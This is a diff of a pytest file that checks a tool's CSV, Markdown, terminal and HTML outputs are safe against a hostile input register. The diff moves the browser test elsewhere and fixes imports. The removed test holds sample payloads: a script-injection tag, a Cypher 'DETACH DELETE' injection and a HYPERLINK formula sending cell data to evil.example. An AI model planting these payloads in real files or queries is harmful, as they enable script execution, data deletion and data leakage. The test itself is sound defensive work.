@@ -1,6 +1,7 @@
-"""What the tool writes from a hostile register (tests/payloads.py): CSV that no spreadsheet runs as
-a formula, Markdown that renders as text (no HTML, links or images), terminal tables without raw
-control characters, and an HTML report that runs nothing and asks the network for nothing.
+"""What the tool writes from a hostile register (tests/support/payloads.py): CSV that no spreadsheet
+runs as a formula, Markdown that renders as text (no HTML, links or images), terminal tables without
+raw control characters; the HTML report, which runs nothing and asks the network for nothing, is
+opened in Chromium by tests/browser/test_hostile_report.py.
 """
 
 from __future__ import annotations
@@ -16,11 +17,11 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from conftest import ROOT
-from payloads import PAYLOADS, Written, write_register
-from test_cli_commands import cli, neo4j_env, no_neo4j_env
 
 from sourcing_graph.views.formats import render
+from tests.support import ROOT
+from tests.support.cli import cli, neo4j_env, no_neo4j_env
+from tests.support.payloads import PAYLOADS, Written, write_register
 
 TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
 RAW_CONTROL = re.compile(
@@ -214,31 +215,6 @@ def test_query_table_sends_no_control_characters(neo4j_store, hostile: Written) 
 
 
 # -- the HTML report in a browser ------------------------------------------------------------------
-
-
-@pytest.mark.browser
-@pytest.mark.slow
-def test_the_report_of_the_hostile_register_runs_nothing(hostile: Written, tmp_path: Path) -> None:
-    from browser import Browser, require_chromium
-
-    require_chromium()
-    out = tmp_path / "report.html"
-    run = cli("report", str(hostile.folder), "-o", str(out), "--engine", "embedded",
-              env=no_neo4j_env())  # fmt: skip
-    assert run.returncode == 0, run.stderr
-    with Browser() as browser, browser.open(out) as (page, record):
-        page.wait_for_timeout(500)
-        assert page.evaluate("() => typeof window.__pwned") == "undefined"
-        assert page.evaluate(
-            "() => document.querySelectorAll('img, iframe, object, embed, a[href], svg[onload]')"
-            ".length"
-        ) == 0  # fmt: skip
-        assert page.evaluate("() => [...document.scripts].filter(s => s.src).length") == 0
-        text = page.inner_text("#analyses")
-        for payload in ("<script>window.__pwned=1</script>", "'}) DETACH DELETE n //",
-                        '=HYPERLINK("http://evil.example/?x="&A1,"click")'):  # fmt: skip
-            assert payload in text
-        assert record.problems() == []
 
 
 @pytest.mark.neo4j
